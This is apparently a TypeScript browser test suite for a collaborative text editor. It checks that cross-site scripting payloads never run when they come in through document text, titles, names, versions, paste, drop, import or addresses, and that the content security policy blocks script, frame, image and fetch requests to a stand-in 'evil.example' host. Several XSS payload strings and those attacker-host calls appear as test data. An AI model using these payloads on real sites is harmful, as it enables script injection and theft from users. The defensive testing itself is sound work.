import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { hostileHtml, hostileMarkdown } from '../test/hostile.ts';
import { launch, withoutChromium } from './chromium.ts';
import { agree, Editor, until } from './editor.ts';
import { Gateway, pause } from './gateway.ts';
import { Past, script } from './past.ts';
import { stage } from './stage.ts';
import { Watch } from './watch.ts';

const on = stage();

const IMAGE = '<img src=x onerror=hacked()>';
const SCRIPT = '"><script>hacked()</script>';
const HANDLER = '" autofocus onfocus="hacked()" onmouseover="hacked()';
/** A fence that is not closed would take the rest with it, and no document holds a NUL. */
const text = `${Object.values(hostileMarkdown).filter(each => !/^[`~]{3}/m.test(each)).join('\n\n').replaceAll('\0', '')}\n\n${hostileMarkdown['an info string']}\n\nthe end`;

/** In how far the page sees to it that nothing runs: without the policy, it alone; with it, the policy has nothing to do. */
for (const bypassCSP of [true, false]) {
  const layer = bypassCSP ? 'were there no policy' : 'and the policy has nothing to stop';

  test(`nothing runs that people put into texts, titles, names and versions, ${layer}`, { skip: withoutChromium }, async () => {
    const id = await on.gateway.create(IMAGE, text);
    for (const title of [SCRIPT, HANDLER, 'javascript:hacked()']) await on.gateway.create(title);
    const [ann, bob, watch] = [await visitor(IMAGE, bypassCSP), await visitor(HANDLER, bypassCSP), await visitor('Cy', bypassCSP)];
    const [one, two] = await Promise.all([ann, bob].map(({ person }) => Editor.open(person, on.gateway, id)));
    assert.ok(one && two);
    for (const editor of [one, two]) {
      await editor.page.locator('.prose').getByText('the end', { exact: true }).waitFor();
      await provoke(editor.page);
    }
    await one.typeAtEnd(`\n\n${SCRIPT} ${IMAGE}`);
    await two.typeAtStart(`${IMAGE}\n\n`);
    await agree(on.gateway, id, [one, two], `${IMAGE}\n\n${text}\n\n${SCRIPT} ${IMAGE}`);
    for (const { page } of [one, two]) await page.keyboard.press('Control+Home');
    await one.shows({ people: [HANDLER], carets: [HANDLER] });
    await two.shows({ people: [IMAGE], carets: [IMAGE] });

    // The past: authors, versions, changes.
    for (const [name, note] of [[IMAGE, SCRIPT], [HANDLER, IMAGE]])
      await post(`/api/documents/${id}/versions`, { name, note, author: SCRIPT, revision: 1 });
    await script(on.gateway, id, 'PUT', `${IMAGE} ${await on.gateway.text(id)}`);
    const past = await Past.open(one);
    await past.content.locator('.past-author').first().waitFor();
    await past.versions([/onmouseover/, /<img/]);
    await provoke(one.page);
    await one.page.getByRole('radio', { name: 'Changes' }).check();
    await past.content.locator('ins').first().waitFor();
    await provoke(one.page);
    await one.page.keyboard.press('Escape');
    await past.panel.waitFor({ state: 'detached' });

    // Dialogs, and what leaves the page.
    await one.page.getByRole('button', { name: 'Share' }).click();
    await provoke(one.page);
    await one.page.keyboard.press('Escape');
    await one.page.getByRole('button', { name: 'More', exact: true }).click();
    const [file] = await Promise.all([one.page.waitForEvent('download'), one.page.getByRole('menuitem', { name: 'Web page (.html)' }).click()]);
    const page = await watch.person.newPage();
    await page.setContent(await readFile(await file.path(), 'utf8'));
    await page.getByText('the end', { exact: true }).waitFor();
    assert.equal(await page.locator('li.task > input:not(:disabled)').count(), 0);
    await provoke(page);

    // The list.
    await page.goto(`${on.gateway.origin}/?search=${encodeURIComponent(IMAGE)}`);
    await page.locator('.row-link', { hasText: IMAGE }).first().waitFor();
    await page.getByLabel('Search documents').fill('');
    await page.locator('.row-link', { hasText: SCRIPT }).first().waitFor();
    await provoke(page);
    await page.getByRole('button', { name: `More actions for ${SCRIPT}` }).click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.locator('.notice', { hasText: SCRIPT }).waitFor();
    await provoke(page);
    for (const { watch: each } of [ann, bob, watch]) each.assertQuiet();
    for (const { person } of [ann, bob, watch]) await person.close();
  });

  test(`nothing runs that is pasted, dropped, imported or in an address, ${layer}`, { skip: withoutChromium }, async () => {
    const id = await on.gateway.create('Pasted');
    const { person, watch } = await visitor('Ann', bypassCSP);
    const editor = await Editor.open(person, on.gateway, id);
    await editor.content.focus();
    for (const html of Object.values(hostileHtml))
      await editor.content.evaluate((content, pasted) => {
        const clipboardData = new DataTransfer();
        clipboardData.setData('text/html', pasted);
        content.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
        clipboardData.setData('text/plain', 'plain ');
        content.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
        content.dispatchEvent(new DragEvent('drop', { dataTransfer: clipboardData, bubbles: true, cancelable: true, clientX: 200, clientY: 200 }));
      }, html);
    await editor.status('Saved');
    // What is dropped may stand in the middle of what was pasted.
    const pasted = await editor.text();
    assert.match(pasted, /^[plain ]+$/);
    assert.ok(pasted.length >= 'plain '.length * Object.keys(hostileHtml).length);
    assert.equal(await editor.content.locator('img, script, svg, style, iframe').count(), 0);
    watch.assertQuiet();

    const page = await person.newPage();
    await page.goto(on.gateway.origin);
    await page.getByLabel('Files to import').setInputFiles([
      { name: `${IMAGE}.md`, mimeType: 'text/markdown', buffer: Buffer.from('imported') },
      { name: `${SCRIPT.replace('/', ':')}.png`, mimeType: 'image/png', buffer: Buffer.from([0x89]) },
    ]);
    await page.getByRole('alert').getByText('was not imported').waitFor();
    await page.locator('.row-link', { hasText: IMAGE }).first().waitFor();
    await provoke(page);

    for (const address of [
      `/?search=${encodeURIComponent(SCRIPT)}`, `/#${SCRIPT}`, `/d/${id}#history/${SCRIPT}`, `/d/${id}?${SCRIPT}#javascript:hacked()`,
      `/d/${encodeURIComponent(IMAGE)}`, `/d/${encodeURIComponent(SCRIPT)}`, '/d/javascript:hacked()', '/d/%E0%A4%A', '/d/%00', `/d/${id}%2F..%2F${encodeURIComponent(IMAGE)}`,
      `/api/documents/${id}/text`, `/api/documents/${encodeURIComponent(SCRIPT)}/text`, `/api/documents?search=${encodeURIComponent(SCRIPT)}&limit=${encodeURIComponent(IMAGE)}`,
    ]) {
      await page.goto(on.gateway.origin + address).catch(() => undefined);
      await pause(100);
      await provoke(page);
    }
    watch.assertNothingRan();
    assert.deepEqual(watch.stopped, []);
    await person.close();
  });
}

test('what passes the sanitiser runs nothing in a page without a policy', { skip: withoutChromium }, async () => {
  const { person, watch } = await visitor('Ann', true);
  const editor = await Editor.open(person, on.gateway, await on.gateway.create('Sanitiser', 'text'));
  await editor.page.locator('.prose p').waitFor();
  for (const html of Object.values(hostileHtml))
    await editor.page.evaluate(async given => {
      const name = performance.getEntriesByType('resource').map(entry => entry.name).find(entry => entry.includes('/clean-html-'));
      const { cleanElements, cleanHtml } = await import(String(name)) as typeof import('../src/editor/clean-html.ts');
      const before = document.body.children.length;
      document.body.append(cleanElements([given, '<p>after</p>']));
      if (document.body.children.length !== before + 2) throw new Error(`Two pieces are not two elements: ${given}`);
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = cleanHtml(given);
    }, html);
  await provoke(editor.page);
  watch.assertQuiet();
  // And the canary would have sung.
  await editor.page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hacked()">'));
  await until(() => Promise.resolve(watch.ran.length > 0), () => 'What runs is not noticed.');
  await person.close();
});

test('what gets into the page all the same is stopped, and the server is told without the text', { skip: withoutChromium }, async () => {
  const [gateway, browser] = await Promise.all([Gateway.start(), launch()]);
  try {
    const person = await browser.newContext();
    const watch = await Watch.over(person);
    const id = await gateway.create('Stopped', 'text');
    const { page } = await Editor.open(person, gateway, id);
    const refused = await page.evaluate(() => {
      const attempts: readonly (readonly [name: string, attempt: () => void])[] = [
        ['script', () => { const made = document.createElement('script'); made.append('hacked()'); document.body.append(made); }],
        ['foreign', () => { const made = document.createElement('script'); made.setAttribute('src', 'https://evil.example/words.js'); document.body.append(made); }],
        ['markup', () => { document.body.innerHTML += '<img src="data:," onerror="hacked()">'; }],
        ['handler', () => { document.body.setAttribute('onclick', 'hacked()'); document.body.click(); }],
        ['link', () => { const made = document.createElement('a'); made.href = 'javascript:hacked()'; document.body.append(made); made.click(); }],
        ['code', () => { setTimeout('hacked()'); }],
        ['style', () => { const made = document.createElement('style'); made.append('body { display: none }'); document.body.append(made); }],
        ['frame', () => { const made = document.createElement('iframe'); made.src = 'https://evil.example/words'; document.body.append(made); }],
        ['picture', () => { new Image().src = 'http://evil.example/words.png'; }],
        ['request', () => { void fetch('https://evil.example/words').catch(() => undefined); }],
        ['policy', () => { (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('evil', {}); }],
      ];
      return attempts.filter(([, attempt]) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      }).map(([name]) => name);
    });
    assert.ok(refused.includes('markup') && refused.includes('policy'), refused.join());
    await until(() => Promise.resolve(['img-src', 'connect-src', 'frame-src', 'style-src-elem', 'script-src-elem', 'require-trusted-types-for', 'trusted-types']
      .every(directive => watch.stopped.some(each => each.startsWith(directive)))), () => `Only this was stopped: ${watch.stopped.join('\n')}`);
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).display) === 'none', false);
    await until(() => Promise.resolve(/\(img-src\) stopped something: http, in document/.test(gateway.log)), () => `The server was not told: ${gateway.log}`);
    assert.match(gateway.log, new RegExp(`in document '${id}'`));
    assert.doesNotMatch(gateway.log, /words|evil/);
    assert.deepEqual(watch.ran, []);
  } finally {
    await browser.close();
    await gateway.remove();
  }
});

async function visitor(name: string, bypassCSP: boolean): Promise<{ readonly person: BrowserContext; readonly watch: Watch }> {
  const person = await on.person(name, '#b52d83', { bypassCSP, acceptDownloads: true, serviceWorkers: 'block' });
  // Pictures that a text may show; what a service worker fetches would not come by here.
  await person.route(/^https:/, route => route.fulfill({ contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64') }));
  return { person, watch: on.watchOf(person) };
}

/** As if somebody went over everything with the mouse and the keyboard; and looks where links lead. */
async function provoke(page: Page): Promise<void> {
  const leading = await page.evaluate(() => {
    const types = ['error', 'load', 'mouseover', 'mouseenter', 'focus', 'toggle', 'beforetoggle', 'animationstart', 'begin'];
    for (const element of document.querySelectorAll('*')) for (const type of types) element.dispatchEvent(new Event(type));
    return [...document.querySelectorAll('[href], [src], [action], [formaction]')].flatMap(element =>
      ['href', 'src', 'action', 'formaction'].map(name => element.getAttribute(name)).filter(address => address !== null));
  });
  for (const address of leading) assert.match(new URL(address, on.gateway.origin).href, /^(https?:|mailto:|tel:|data:image\/(png|jpe?g|gif|webp|avif);base64,)/i);
}

async function post(path: string, body: object): Promise<void> {
  const answer = await fetch(on.gateway.origin + path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  assert.ok(answer.ok, `${path} was answered ${answer.status}: ${await answer.text()}`);
}
